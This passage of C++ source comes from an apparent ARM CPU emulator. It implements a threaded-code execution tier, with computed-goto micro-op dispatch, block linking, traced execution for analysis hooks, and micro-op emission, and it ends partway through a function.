      return alu.imm_operand ? fused_dp_branch<Op::kEor, true>
                             : fused_dp_branch<Op::kEor, false>;
    case Op::kSub:
      return alu.imm_operand ? fused_dp_branch<Op::kSub, true>
                             : fused_dp_branch<Op::kSub, false>;
    case Op::kRsb:
      return alu.imm_operand ? fused_dp_branch<Op::kRsb, true>
                             : fused_dp_branch<Op::kRsb, false>;
    case Op::kAdd:
      return alu.imm_operand ? fused_dp_branch<Op::kAdd, true>
                             : fused_dp_branch<Op::kAdd, false>;
    case Op::kAdc:
      return alu.imm_operand ? fused_dp_branch<Op::kAdc, true>
                             : fused_dp_branch<Op::kAdc, false>;
    case Op::kSbc:
      return alu.imm_operand ? fused_dp_branch<Op::kSbc, true>
                             : fused_dp_branch<Op::kSbc, false>;
    case Op::kRsc:
      return alu.imm_operand ? fused_dp_branch<Op::kRsc, true>
                             : fused_dp_branch<Op::kRsc, false>;
    case Op::kOrr:
      return alu.imm_operand ? fused_dp_branch<Op::kOrr, true>
                             : fused_dp_branch<Op::kOrr, false>;
    case Op::kMov:
      return alu.imm_operand ? fused_dp_branch<Op::kMov, true>
                             : fused_dp_branch<Op::kMov, false>;
    case Op::kBic:
      return alu.imm_operand ? fused_dp_branch<Op::kBic, true>
                             : fused_dp_branch<Op::kBic, false>;
    case Op::kMvn:
      return alu.imm_operand ? fused_dp_branch<Op::kMvn, true>
                             : fused_dp_branch<Op::kMvn, false>;
    default:
      return nullptr;
  }
}

}  // namespace ndroid::arm
