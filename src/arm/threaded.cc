// Threaded-code tier implementation: micro-op emission (lowering a
// TranslationBlock's decoded instructions into pre-resolved Uop records)
// and the computed-goto inner loop that executes the streams, follows
// direct block links, and escapes to the trampoline (Cpu::run_threaded)
// only on the slow events listed in threaded.h.
//
// Semantics contract: every micro-op body below is a transliteration of the
// corresponding fused handler in executor.cc (fast_dp / fast_cmp / fast_mem
// / fast_branch / ...) minus the per-instruction PC increment — the clean
// stream keeps the PC *lazy* and materialises it only where it is
// observable (generic execute() micro-ops, SVC, and every loop exit). Flag
// arithmetic comes from the shared set_sub_flags/set_add_flags/dp_compute
// kernels, so the golden-log ablation quadruple stays bit-for-bit.
#include "arm/threaded.h"

#include <bit>
#include <cstring>

#include "arm/cpu.h"
#include "arm/uop_kernels.h"

namespace ndroid::arm {

// The dispatch loop and the label table live in one function (GNU
// labels-as-values). Called with table_out != nullptr it only exports the
// label table for the emitter and executes nothing. The micro-op kind list
// (NDROID_UOP_LIST) and the TLB-probing ld_*/st_* kernels live in
// threaded.h / uop_kernels.h, shared with the jit backend.
u64 ThreadedRun::exec_impl(Cpu* cpu_p, ThreadedBlock* entry, u64 budget,
                           void* const** table_out) {
  static void* const labels[] = {
#define UOP_LABEL(name) &&L_##name,
      NDROID_UOP_LIST(UOP_LABEL)
#undef UOP_LABEL
  };
  static_assert(sizeof(labels) / sizeof(labels[0]) ==
                static_cast<std::size_t>(UK::kCount));
  if (table_out != nullptr) {
    *table_out = labels;
    return 0;
  }

  Cpu& cpu = *cpu_p;
  CPUState& s = cpu.state_;
  mem::AddressSpace& m = cpu.memory_;
  u32* const r = s.regs.data();

  ThreadedBlock* blk = entry;
  const Uop* op = entry->ops.data();
  u64 done = 0;
  u64 flushed = 0;  // portion of `done` already added to cpu.retired_
  u64 block_base = 0;
  bool gate_skip = false;
  GuestAddr edge_from = 0;
  GuestAddr edge_to = 0;
  ExitSlot* slot = nullptr;

// Close the current block's fast-path accounting; every departure from a
// block (exit, link, SVC) runs this exactly once.
#define CLOSE_BLOCK()                                    \
  do {                                                   \
    if (gate_skip) {                                     \
      cpu.fastpath_insns_ += done - block_base;          \
      gate_skip = false;                                 \
    }                                                    \
  } while (0)

#define FLUSH_RETIRED()                \
  do {                                 \
    cpu.retired_ += done - flushed;    \
    flushed = done;                    \
  } while (0)

#define NEXT          \
  do {                \
    ++done;           \
    ++op;             \
    goto* op->label;  \
  } while (0)

// Dense load micro-op triple (offset / pre-index / post-index). Writeback
// lands before the rd write so rn==rd takes the same net effect as
// execute_body (rd wins), matching fast_mem.
#define LD_TRIPLE(name, LDFN)                       \
  L_##name##_off : {                                \
    const GuestAddr addr = r[op->b] + op->imm;      \
    r[op->a] = LDFN(m, addr);                       \
    NEXT;                                           \
  }                                                 \
  L_##name##_pre : {                                \
    const GuestAddr addr = r[op->b] + op->imm;      \
    const u32 v = LDFN(m, addr);                    \
    r[op->b] = addr;                                \
    r[op->a] = v;                                   \
    NEXT;                                           \
  }                                                 \
  L_##name##_post : {                               \
    const GuestAddr addr = r[op->b];                \
    const u32 v = LDFN(m, addr);                    \
    r[op->b] = addr + op->imm;                      \
    r[op->a] = v;                                   \
    NEXT;                                           \
  }

// Dense store micro-op triple. The value is read before the writeback
// (fast_mem stores the pre-writeback rd), and a slow-path store re-checks
// tb.dead: the block may have just overwritten its own code, in which case
// the remaining stream is stale and we leave with the PC at the next
// instruction (op->x), insn fully retired.
#define ST_BODY(ADDR_SETUP, STFN, WRITEBACK)             \
  {                                                      \
    ADDR_SETUP;                                          \
    const u32 v = r[op->a];                              \
    const bool hit = STFN(m, addr, v);                   \
    WRITEBACK;                                           \
    ++done;                                              \
    if (!hit && blk->tb->dead) [[unlikely]] {            \
      s.set_pc(op->x);                                   \
      goto block_exit;                                   \
    }                                                    \
    ++op;                                                \
    goto* op->label;                                     \
  }
#define ST_TRIPLE(name, STFN)                                              \
  L_##name##_off : ST_BODY(const GuestAddr addr = r[op->b] + op->imm,      \
                           STFN, (void)0)                                  \
  L_##name##_pre : ST_BODY(const GuestAddr addr = r[op->b] + op->imm,      \
                           STFN, r[op->b] = addr)                          \
  L_##name##_post : ST_BODY(const GuestAddr addr = r[op->b], STFN,         \
                            r[op->b] = addr + op->imm)

#define DP_PAIR(name, OPK)                                 \
  L_##name##_i : {                                         \
    r[op->a] = dp_compute<OPK>(r[op->b], op->imm, s);      \
    NEXT;                                                  \
  }                                                        \
  L_##name##_r : {                                         \
    r[op->a] = dp_compute<OPK>(r[op->b], r[op->c], s);     \
    NEXT;                                                  \
  }

  try {
    goto* op->label;

  L_enter: {
    auto* b = static_cast<ThreadedBlock*>(
        const_cast<void*>(op->p));
    TranslationBlock& tb = *b->tb;
    const std::size_t n = b->n_insns;
    if (budget - done < n) [[unlikely]] {
      // Budget can't cover whole-block replay; surface to the trampoline,
      // which falls back to the careful per-instruction path.
      s.thumb = tb.thumb;
      s.set_pc(tb.pc);
      goto out_done;
    }
    // Hook resolution, once per block execution: the epoch-memoised gate
    // may declare the block hook-free (taint-liveness fast path) — that
    // memo, not re-emission, is what keeps the clean stream valid across
    // taint-liveness flips.
    bool fire = !cpu.insn_hooks_.empty();
    bool skip = false;
    if (fire && cpu.block_gate_ &&
        cpu.gated_hooks_ == static_cast<int>(cpu.insn_hooks_.size())) {
      if (cpu.block_gate_epoch_ != nullptr &&
          tb.gate_epoch == *cpu.block_gate_epoch_) {
        fire = tb.gate_fire;
      } else {
        fire = cpu.block_gate_(cpu, tb);
        if (cpu.block_gate_epoch_ != nullptr) {
          tb.gate_epoch = *cpu.block_gate_epoch_;
          tb.gate_fire = fire;
        }
      }
      skip = !fire;
    }
    if (fire) [[unlikely]] {
      // Analysis event: run this block through the fused trace stream and
      // surface (hooks may have moved anything, including the hook list).
      s.thumb = tb.thumb;
      s.set_pc(tb.pc);
      const u64 t = exec_traced_impl(cpu, *b, budget - done);
      done += t;
      flushed += t;  // exec_traced_impl retires directly
      goto out_done;
    }
    ++tb.exec_count;
    if (skip) ++cpu.fastpath_blocks_;
    gate_skip = skip;
    blk = b;
    block_base = done;
    ++op;
    goto* op->label;
  }

    DP_PAIR(and, Op::kAnd)
    DP_PAIR(eor, Op::kEor)
    DP_PAIR(sub, Op::kSub)
    DP_PAIR(rsb, Op::kRsb)
    DP_PAIR(add, Op::kAdd)
    DP_PAIR(adc, Op::kAdc)
    DP_PAIR(sbc, Op::kSbc)
    DP_PAIR(rsc, Op::kRsc)
    DP_PAIR(orr, Op::kOrr)
    DP_PAIR(mov, Op::kMov)
    DP_PAIR(bic, Op::kBic)
    DP_PAIR(mvn, Op::kMvn)

  L_cmp_i0: {
    const u32 a = r[op->b];
    s.n = (a >> 31) != 0;
    s.z = a == 0;
    s.c = true;
    s.v = false;
    NEXT;
  }
  L_cmp_i: {
    set_sub_flags(s, r[op->b], op->imm);
    NEXT;
  }
  L_cmp_r: {
    set_sub_flags(s, r[op->b], r[op->c]);
    NEXT;
  }
  L_cmn_i: {
    set_add_flags(s, r[op->b], op->imm);
    NEXT;
  }
  L_cmn_r: {
    set_add_flags(s, r[op->b], r[op->c]);
    NEXT;
  }
  L_subs_i: {
    const u32 a = r[op->b];
    set_sub_flags(s, a, op->imm);
    r[op->a] = a - op->imm;
    NEXT;
  }
  L_subs_r: {
    const u32 a = r[op->b];
    const u32 b2 = r[op->c];
    set_sub_flags(s, a, b2);
    r[op->a] = a - b2;
    NEXT;
  }
  L_adds_i: {
    const u32 a = r[op->b];
    set_add_flags(s, a, op->imm);
    r[op->a] = a + op->imm;
    NEXT;
  }
  L_adds_r: {
    const u32 a = r[op->b];
    const u32 b2 = r[op->c];
    set_add_flags(s, a, b2);
    r[op->a] = a + b2;
    NEXT;
  }
  L_movw: {
    r[op->a] = op->imm;
    NEXT;
  }
  L_movt: {
    r[op->a] = (r[op->a] & 0xFFFFu) | (op->imm << 16);
    NEXT;
  }
  L_mul: {
    r[op->a] = r[op->b] * r[op->c];
    NEXT;
  }
  L_sxtb: {
    r[op->a] = static_cast<u32>(static_cast<i32>(static_cast<i8>(r[op->b])));
    NEXT;
  }
  L_sxth: {
    r[op->a] = static_cast<u32>(static_cast<i32>(static_cast<i16>(r[op->b])));
    NEXT;
  }
  L_uxtb: {
    r[op->a] = r[op->b] & 0xFFu;
    NEXT;
  }
  L_uxth: {
    r[op->a] = r[op->b] & 0xFFFFu;
    NEXT;
  }
  // Shift-by-immediate MOVs (no flags, amount 1..31 — so the 0-means-32
  // LSR/ASR encodings and ROR#0==RRX never land here).
  L_lsl_i: {
    r[op->a] = r[op->c] << op->imm;
    NEXT;
  }
  L_lsr_i: {
    r[op->a] = r[op->c] >> op->imm;
    NEXT;
  }
  L_asr_i: {
    r[op->a] = static_cast<u32>(static_cast<i32>(r[op->c]) >> op->imm);
    NEXT;
  }
  L_ror_i: {
    const u32 v = r[op->c];
    r[op->a] = (v >> op->imm) | (v << (32u - op->imm));
    NEXT;
  }
  // Long multiplies without flags: a = RdLo, b = RdHi, product of c (Rs)
  // and d (Rm), write order lo-then-hi matching execute().
  L_umull: {
    const u64 p = static_cast<u64>(r[op->c]) * r[op->d];
    r[op->a] = static_cast<u32>(p);
    r[op->b] = static_cast<u32>(p >> 32);
    NEXT;
  }
  L_smull: {
    const u64 p = static_cast<u64>(
        static_cast<i64>(static_cast<i32>(r[op->c])) *
        static_cast<i32>(r[op->d]));
    r[op->a] = static_cast<u32>(p);
    r[op->b] = static_cast<u32>(p >> 32);
    NEXT;
  }

    LD_TRIPLE(ldr, ld_u32)
    LD_TRIPLE(ldrb, ld_u8)
    LD_TRIPLE(ldrh, ld_u16)
    LD_TRIPLE(ldrsb, ld_s8)
    LD_TRIPLE(ldrsh, ld_s16)
    ST_TRIPLE(str, st_u32)
    ST_TRIPLE(strb, st_u8)
    ST_TRIPLE(strh, st_u16)

  // Superword-fused micro-ops: two guest instructions (or one LDM/STM worth
  // of transfers) retire per dispatch, cutting the dominant remaining cost
  // of this tier — dispatch density — without host codegen.
  L_movw_movt: {
    // movw rd,#lo16 ; movt rd,#hi16 — a full 32-bit constant load.
    r[op->a] = op->imm;
    done += 2;
    ++op;
    goto* op->label;
  }
  L_ldr_addi: {
    // ldr rd,[rn,#imm] ; add rm,rm,#step (flagless). Sequential effect:
    // the load lands first, then the increment — correct for every
    // aliasing of rd/rn/rm.
    const GuestAddr addr = r[op->b] + op->imm;
    r[op->a] = ld_u32(m, addr);
    r[op->d] += op->x;
    done += 2;
    ++op;
    goto* op->label;
  }
  L_stm: {
    // Dense STM (push prologue). Same partial-exit protocol as ST_BODY:
    // all transfers and the writeback complete, the insn fully retires,
    // then a TLB-missing store re-checks the self-modification dead mark
    // (resume PC pre-resolved in op->x).
    const auto* ti = static_cast<const TbInsn*>(op->p);
    const bool all_hit = stm_dense(s, m, ti->insn);
    ++done;
    if (!all_hit && blk->tb->dead) [[unlikely]] {
      s.set_pc(op->x);
      goto block_exit;
    }
    ++op;
    goto* op->label;
  }
  L_ldm: {
    // Dense LDM (pop without PC).
    const auto* ti = static_cast<const TbInsn*>(op->p);
    ldm_dense(s, m, ti->insn);
    NEXT;
  }

  L_exec: {
    // General-path instruction (shifted operands, conditional execution,
    // LDM/STM, IT blocks, ...): materialise the PC it expects and defer to
    // the interpretive executor. Never branches (branching instructions
    // become terminals), so the stream continues sequentially.
    const auto* ti = static_cast<const TbInsn*>(op->p);
    s.set_pc(op->imm);
    execute(ti->insn, s, m);
    NEXT;
  }
  L_exec_dead: {
    // Same, for store-class instructions: the block may have overwritten
    // its own upcoming code, so check the dead mark before continuing.
    const auto* ti = static_cast<const TbInsn*>(op->p);
    s.set_pc(op->imm);
    execute(ti->insn, s, m);
    ++done;
    if (blk->tb->dead) [[unlikely]] goto block_exit;  // PC already at next
    ++op;
    goto* op->label;
  }

  // Fused compare-and-conditional-branch terminals — the threaded twin of
  // the TB tier's select_fused_pair tail. One dispatch sets the flags
  // architecturally (later blocks and surfaced exits may read them) and
  // takes the branch; the uop retires two instructions. `p` is the branch
  // TbInsn for the imm0/reg shapes; the immediate shapes point at the ALU
  // TbInsn (its insn.imm is the compare operand) and derive the branch pc
  // from it.
  L_cmp0_b: {
    const u32 v = r[op->b];
    s.n = (v >> 31) != 0;
    s.z = v == 0;
    s.c = true;
    s.v = false;
    done += 2;
    if (condition_passed(static_cast<Cond>(op->a), s)) {
      edge_from = static_cast<const TbInsn*>(op->p)->pc;
      edge_to = op->imm;
      slot = &blk->exits[0];
      goto link_edge;
    }
    edge_to = op->x;
    slot = &blk->exits[1];
    goto link_fall;
  }
  L_cmp_i_b: {
    const auto* ti = static_cast<const TbInsn*>(op->p);
    set_sub_flags(s, r[op->b], ti->insn.imm);
    done += 2;
    if (condition_passed(static_cast<Cond>(op->a), s)) {
      edge_from = ti->pc + ti->insn.length;
      edge_to = op->imm;
      slot = &blk->exits[0];
      goto link_edge;
    }
    edge_to = op->x;
    slot = &blk->exits[1];
    goto link_fall;
  }
  L_cmp_r_b: {
    set_sub_flags(s, r[op->b], r[op->c]);
    done += 2;
    if (condition_passed(static_cast<Cond>(op->a), s)) {
      edge_from = static_cast<const TbInsn*>(op->p)->pc;
      edge_to = op->imm;
      slot = &blk->exits[0];
      goto link_edge;
    }
    edge_to = op->x;
    slot = &blk->exits[1];
    goto link_fall;
  }
  L_subs_i_b: {
    const auto* ti = static_cast<const TbInsn*>(op->p);
    const u32 lhs = r[op->b];
    const u32 rhs = ti->insn.imm;
    set_sub_flags(s, lhs, rhs);
    r[op->a] = lhs - rhs;
    done += 2;
    if (condition_passed(static_cast<Cond>(op->d), s)) {
      edge_from = ti->pc + ti->insn.length;
      edge_to = op->imm;
      slot = &blk->exits[0];
      goto link_edge;
    }
    edge_to = op->x;
    slot = &blk->exits[1];
    goto link_fall;
  }

  L_b_al: {
    ++done;
    edge_from = static_cast<const TbInsn*>(op->p)->pc;
    edge_to = op->imm;
    slot = &blk->exits[0];
    goto link_edge;
  }
  L_bl_al: {
    r[kRegLR] = s.thumb ? (op->x | 1u) : op->x;
    ++done;
    edge_from = static_cast<const TbInsn*>(op->p)->pc;
    edge_to = op->imm;
    slot = &blk->exits[0];
    goto link_edge;
  }
  L_b_cond: {
    ++done;
    edge_from = static_cast<const TbInsn*>(op->p)->pc;
    if (condition_passed(static_cast<Cond>(op->a), s)) {
      edge_to = op->imm;
      slot = &blk->exits[0];
      goto link_edge;
    }
    edge_to = op->x;
    slot = &blk->exits[1];
    goto link_fall;
  }
  L_bx_term: {
    // BX/BLX(reg): interworking register branch. A target equal to the
    // fall-through address is not a taken branch (mirrors exec_block's
    // pc != next test).
    const u32 target = r[op->a];
    if (op->b != 0) r[kRegLR] = s.thumb ? (op->x | 1u) : op->x;
    ++done;
    edge_from = static_cast<const TbInsn*>(op->p)->pc;
    edge_to = target & ~1u;
    s.thumb = (target & 1u) != 0;
    if (edge_to != op->x) {
      slot = &blk->exits[0];
      goto link_edge;
    }
    slot = &blk->exits[1];
    goto link_fall;
  }
  L_svc_term: {
    const auto* ti = static_cast<const TbInsn*>(op->p);
    s.set_pc(op->imm);
    if (ti->insn.op == Op::kSvc &&
        condition_passed(effective_cond(ti->insn, s), s)) {
      if (!cpu.svc_handler_) throw GuestFault("SVC with no kernel attached");
      if (s.thumb && s.itstate != 0) advance_itstate(s);
      s.set_pc(op->x);
      ++done;
      CLOSE_BLOCK();
      FLUSH_RETIRED();  // the handler may observe/reenter the Cpu
      cpu.svc_handler_(cpu, ti->insn.imm);
      goto out_done;
    }
    // Condition failed: execute() just advances PC (and ITSTATE).
    execute(ti->insn, s, m);
    ++done;
    edge_from = ti->pc;
    edge_to = s.pc();
    slot = &blk->exits[1];
    goto link_fall;
  }
  L_exec_term: {
    // General-path terminal: run it interpretively, then classify the
    // outcome as taken branch or fall-through by where the PC landed.
    const auto* ti = static_cast<const TbInsn*>(op->p);
    s.set_pc(op->imm);
    execute(ti->insn, s, m);
    ++done;
    edge_from = ti->pc;
    edge_to = s.pc();
    if (edge_to != op->x) {
      slot = &blk->exits[0];
      goto link_edge;
    }
    slot = &blk->exits[1];
    goto link_fall;
  }
  L_end: {
    // Straight-line continuation: the block filled up (kMaxBlockInsns or a
    // low helper ahead) without a terminating instruction.
    edge_to = op->imm;
    slot = &blk->exits[1];
    goto link_fall;
  }

  link_edge: {
    // Taken branch: when it is not provably quiet, the branch hooks fire
    // and control surfaces (hooks may move anything). The no-hook test is
    // inlined so the common case skips the out-of-line gate call.
    if (!cpu.branch_hooks_.empty() &&
        !cpu.is_branch_quiet(*blk->tb, edge_from, edge_to)) {
      s.set_pc(edge_to);
      CLOSE_BLOCK();
      FLUSH_RETIRED();
      cpu.fire_branch_hooks(edge_from, edge_to);
      goto out_done;
    }
    // Quiet taken branch: falls through into the shared link tail below.
  }
  link_fall: {
    // Quiet edge: stay inside the threaded loop when the successor can be
    // entered directly. ITSTATE / helper-window / host-return landings
    // surface (host return lives above the window base).
    if (s.itstate != 0 || edge_to >= kHelperWindowBase ||
        (cpu.has_low_helpers_ && cpu.helpers_.count(edge_to) != 0))
        [[unlikely]] {
      s.set_pc(edge_to);
      CLOSE_BLOCK();
      goto out_done;
    }
    const u64 key = TbCache::key(edge_to, s.thumb);
    // Patched direct link, version-fenced against every cache kill/flush.
    if (slot->version == cpu.tb_cache_.version() && slot->key == key)
        [[likely]] {
      CLOSE_BLOCK();
      cpu.tb_cache_.count_front_hit();
      ++cpu.threaded_links_;
      op = slot->succ->ops.data();
      goto* op->label;  // successor's entry op
    }
    // Link miss: resolve through the front cache and patch the slot so the
    // next traversal of this edge stays inside the loop.
    {
      Cpu::TbFrontEntry& fe = cpu.tb_front_[static_cast<u32>(
          (key * 0x9E3779B97F4A7C15ull) >> (64 - Cpu::kTbFrontBits))];
      if (fe.key == key && fe.version == cpu.tb_cache_.version() &&
          fe.tb->threaded != nullptr) {
        *slot = {cpu.tb_cache_.version(), key, fe.tb->threaded.get()};
        ++cpu.threaded_patches_;
        CLOSE_BLOCK();
        cpu.tb_cache_.count_front_hit();
        ++cpu.threaded_links_;
        op = slot->succ->ops.data();
        goto* op->label;
      }
    }
    // Untranslated (or un-emitted) successor: surface to the trampoline.
    s.set_pc(edge_to);
    CLOSE_BLOCK();
    goto out_done;
  }

  block_exit: {
    // Partial exit with the PC already architecturally correct
    // (self-modification dead mark).
    CLOSE_BLOCK();
    goto out_done;
  }

  out_done:
    FLUSH_RETIRED();
    return done;
  } catch (...) {
    cpu.retired_ += done - flushed;
    throw;
  }

#undef CLOSE_BLOCK
#undef FLUSH_RETIRED
#undef NEXT
#undef LD_TRIPLE
#undef ST_BODY
#undef ST_TRIPLE
#undef DP_PAIR
}

void* const* ThreadedRun::label_table() {
  static void* const* table = [] {
    void* const* t = nullptr;
    exec_impl(nullptr, nullptr, 0, &t);
    return t;
  }();
  return table;
}

// Builds the fused trace stream (lazily, on the block's first gated
// execution under the current cache generation). Fused thunks are only
// sound while the single registered instruction hook is the one the
// emitter models — Cpu flushes all blocks (and thus these streams) on any
// hook-topology change while an emitter is installed.
void ThreadedRun::build_traced(Cpu& cpu, ThreadedBlock& blk) {
  TranslationBlock& tb = *blk.tb;
  blk.traced.clear();
  blk.traced.reserve(tb.insns.size());
  const bool fusable =
      cpu.trace_emitter_ != nullptr && cpu.insn_hooks_.size() == 1;
  for (const TbInsn& ti : tb.insns) {
    TraceStep st;
    if (fusable) {
      if (std::optional<TraceOp> op = cpu.trace_emitter_(tb, ti)) {
        st.op = std::move(*op);
        st.generic = false;
      }
    }
    blk.traced.push_back(std::move(st));
  }
  blk.traced_ready = true;
}

// Gated execution of one block: the pre-resolved trace step, then the
// instruction — a transliteration of Cpu::exec_block's careful path (same
// budget, SVC, branch-quiet, and dead-mark behaviour, same counters).
u64 ThreadedRun::exec_traced_impl(Cpu& cpu, ThreadedBlock& blk, u64 budget) {
  if (!blk.traced_ready) build_traced(cpu, blk);
  TranslationBlock& tb = *blk.tb;
  CPUState& s = cpu.state_;
  mem::AddressSpace& m = cpu.memory_;
  ++tb.exec_count;
  const std::size_t n = tb.insns.size();
  u64 done = 0;
  for (std::size_t i = 0; i < n && done < budget; ++i) {
    const TbInsn& ti = tb.insns[i];
    const TraceStep& st = blk.traced[i];
    if (st.generic) {
      for (auto& h : cpu.insn_hooks_) h.fn(cpu, ti.insn, ti.pc);
    } else if (st.op.fn != nullptr) {
      st.op.fn(st.op.ctx, cpu, ti.insn, ti.pc);
    }
    if (ti.insn.op == Op::kSvc &&
        condition_passed(effective_cond(ti.insn, s), s)) {
      if (!cpu.svc_handler_) throw GuestFault("SVC with no kernel attached");
      if (s.thumb && s.itstate != 0) advance_itstate(s);
      s.set_pc(ti.pc + ti.insn.length);
      ++cpu.retired_;
      ++done;
      cpu.svc_handler_(cpu, ti.insn.imm);
      break;  // SVC always terminates a block
    }
    if (ti.fast != nullptr) {
      ti.fast(ti.insn, s, m);
    } else {
      execute(ti.insn, s, m);
    }
    ++cpu.retired_;
    ++done;
    if (s.pc() != ti.pc + ti.insn.length) {
      if (!cpu.is_branch_quiet(tb, ti.pc, s.pc())) {
        cpu.fire_branch_hooks(ti.pc, s.pc());
      }
      break;
    }
    if (tb.dead) break;
  }
  return done;
}

// --- Emission ---------------------------------------------------------

namespace {

Uop make_generic(const TbInsn& ti, void* const* L) {
  Uop u;
  u.p = &ti;
  u.imm = ti.pc;
  u.x = ti.pc + ti.insn.length;
  const bool store_class = ti.taint_class == TaintClass::kStore ||
                           ti.taint_class == TaintClass::kStm;
  u.label = L[static_cast<u32>(store_class ? UK::k_exec_dead : UK::k_exec)];
  return u;
}

// Maps a fused-handler-eligible instruction (ti.fast != nullptr, so every
// select_fast_exec/select_fast_mem precondition holds: cond == AL, no PC
// operands, plain operands) onto its dense micro-op, or falls back to the
// generic one for fused shapes without a dense twin. Two fused-ineligible
// shapes that dominate real hot loops — shift-by-immediate MOVs and long
// multiplies — also get dense twins here; their guards re-derive by hand
// the preconditions ti.fast would otherwise imply (unconditional, no PC
// operands, no flags, outside any IT block).
Uop make_body(const TbInsn& ti, bool in_it, void* const* L) {
  const Insn& in = ti.insn;
  Uop u;
  u.p = &ti;
  auto lab = [&](UK k) { return L[static_cast<u32>(k)]; };
  if (!in_it && in.cond == Cond::kAL) {
    if (in.op == Op::kMov && !in.imm_operand && !in.set_flags &&
        !in.shift_by_reg && in.shift_amount >= 1 && in.shift_amount <= 31 &&
        in.rd != kRegPC && in.rm != kRegPC) {
      u.a = in.rd;
      u.c = in.rm;
      u.imm = in.shift_amount;
      switch (in.shift) {
        case ShiftType::kLSL: u.label = lab(UK::k_lsl_i); return u;
        case ShiftType::kLSR: u.label = lab(UK::k_lsr_i); return u;
        case ShiftType::kASR: u.label = lab(UK::k_asr_i); return u;
        case ShiftType::kROR: u.label = lab(UK::k_ror_i); return u;
        default: break;  // kRRX: general path
      }
    }
    if ((in.op == Op::kUmull || in.op == Op::kSmull) && !in.set_flags &&
        in.rd != kRegPC && in.rn != kRegPC && in.rm != kRegPC &&
        in.rs != kRegPC) {
      u.a = in.rd;  // RdLo
      u.b = in.rn;  // RdHi
      u.c = in.rs;
      u.d = in.rm;
      u.label = lab(in.op == Op::kUmull ? UK::k_umull : UK::k_smull);
      return u;
    }
    // Dense block transfers (push/pop without PC): one dispatch per LDM/STM
    // instead of the interpretive k_exec(_dead) round trip. Excluding the
    // base register from the list sidesteps every base-restore subtlety.
    if ((in.op == Op::kStm || in.op == Op::kLdm) && in.rn != kRegPC &&
        in.reglist != 0 && (in.reglist & (1u << kRegPC)) == 0 &&
        (in.reglist & (1u << in.rn)) == 0) {
      u.x = ti.pc + in.length;  // stm partial-exit resume point
      u.label = lab(in.op == Op::kStm ? UK::k_stm : UK::k_ldm);
      return u;
    }
  }
  if (ti.fast == nullptr) return make_generic(ti, L);
  switch (in.op) {
    case Op::kAnd:
    case Op::kEor:
    case Op::kSub:
    case Op::kRsb:
    case Op::kAdd:
    case Op::kAdc:
    case Op::kSbc:
    case Op::kRsc:
    case Op::kCmp:
    case Op::kCmn:
    case Op::kOrr:
    case Op::kMov:
    case Op::kBic:
    case Op::kMvn: {
      u.a = in.rd;
      u.b = in.rn;
      if (in.imm_operand) {
        u.imm = in.imm;
      } else {
        u.c = in.rm;
      }
      if (in.set_flags) {
        switch (in.op) {
          case Op::kCmp:
            u.label = in.imm_operand
                          ? (in.imm == 0 ? lab(UK::k_cmp_i0) : lab(UK::k_cmp_i))
                          : lab(UK::k_cmp_r);
            return u;
          case Op::kCmn:
            u.label = in.imm_operand ? lab(UK::k_cmn_i) : lab(UK::k_cmn_r);
            return u;
          case Op::kSub:
            u.label = in.imm_operand ? lab(UK::k_subs_i) : lab(UK::k_subs_r);
            return u;
          case Op::kAdd:
            u.label = in.imm_operand ? lab(UK::k_adds_i) : lab(UK::k_adds_r);
            return u;
          default:
            return make_generic(ti, L);  // unreachable given ti.fast
        }
      }
      static constexpr struct {
        Op op;
        UK imm_kind;
        UK reg_kind;
      } kDp[] = {
          {Op::kAnd, UK::k_and_i, UK::k_and_r},
          {Op::kEor, UK::k_eor_i, UK::k_eor_r},
          {Op::kSub, UK::k_sub_i, UK::k_sub_r},
          {Op::kRsb, UK::k_rsb_i, UK::k_rsb_r},
          {Op::kAdd, UK::k_add_i, UK::k_add_r},
          {Op::kAdc, UK::k_adc_i, UK::k_adc_r},
          {Op::kSbc, UK::k_sbc_i, UK::k_sbc_r},
          {Op::kRsc, UK::k_rsc_i, UK::k_rsc_r},
          {Op::kOrr, UK::k_orr_i, UK::k_orr_r},
          {Op::kMov, UK::k_mov_i, UK::k_mov_r},
          {Op::kBic, UK::k_bic_i, UK::k_bic_r},
          {Op::kMvn, UK::k_mvn_i, UK::k_mvn_r},
      };
      for (const auto& e : kDp) {
        if (e.op == in.op) {
          u.label = lab(in.imm_operand ? e.imm_kind : e.reg_kind);
          return u;
        }
      }
      return make_generic(ti, L);
    }
    case Op::kMovw:
      u.a = in.rd;
      u.imm = in.imm;
      u.label = lab(UK::k_movw);
      return u;
    case Op::kMovt:
      u.a = in.rd;
      u.imm = in.imm;
      u.label = lab(UK::k_movt);
      return u;
    case Op::kMul:
      u.a = in.rd;
      u.b = in.rn;
      u.c = in.rm;
      u.label = lab(UK::k_mul);
      return u;
    case Op::kSxtb:
    case Op::kSxth:
    case Op::kUxtb:
    case Op::kUxth:
      u.a = in.rd;
      u.b = in.rm;
      u.label = lab(in.op == Op::kSxtb   ? UK::k_sxtb
                    : in.op == Op::kSxth ? UK::k_sxth
                    : in.op == Op::kUxtb ? UK::k_uxtb
                                         : UK::k_uxth);
      return u;
    case Op::kLdr:
    case Op::kLdrb:
    case Op::kLdrh:
    case Op::kLdrsb:
    case Op::kLdrsh:
    case Op::kStr:
    case Op::kStrb:
    case Op::kStrh: {
      u.a = in.rd;
      u.b = in.rn;
      // Offset direction folds into the immediate (two's-complement add).
      u.imm = in.add_offset ? in.imm : 0u - in.imm;
      u.x = ti.pc + in.length;  // slow-store partial-exit resume point
      // Variant index: 0 = offset, 1 = pre-index wb, 2 = post-index.
      const u32 variant = in.pre_index ? (in.writeback ? 1u : 0u) : 2u;
      static constexpr struct {
        Op op;
        UK base;
      } kMem[] = {
          {Op::kLdr, UK::k_ldr_off},     {Op::kLdrb, UK::k_ldrb_off},
          {Op::kLdrh, UK::k_ldrh_off},   {Op::kLdrsb, UK::k_ldrsb_off},
          {Op::kLdrsh, UK::k_ldrsh_off}, {Op::kStr, UK::k_str_off},
          {Op::kStrb, UK::k_strb_off},   {Op::kStrh, UK::k_strh_off},
      };
      for (const auto& e : kMem) {
        if (e.op == in.op) {
          u.label = L[static_cast<u32>(e.base) + variant];
          return u;
        }
      }
      return make_generic(ti, L);
    }
    default:
      return make_generic(ti, L);
  }
}

// Lowers the block-terminating instruction. `in_it` reflects whether the
// instruction sits inside a Thumb IT block (emission tracks IT coverage
// exactly like Cpu::translate), which forces the general path for the
// register-branch shapes that have no fused handler to inherit the
// exclusion from.
Uop make_terminal(const TranslationBlock& tb, const TbInsn& ti, bool in_it,
                  void* const* L) {
  const Insn& in = ti.insn;
  const GuestAddr next = ti.pc + in.length;
  Uop u;
  u.p = &ti;
  auto lab = [&](UK k) { return L[static_cast<u32>(k)]; };
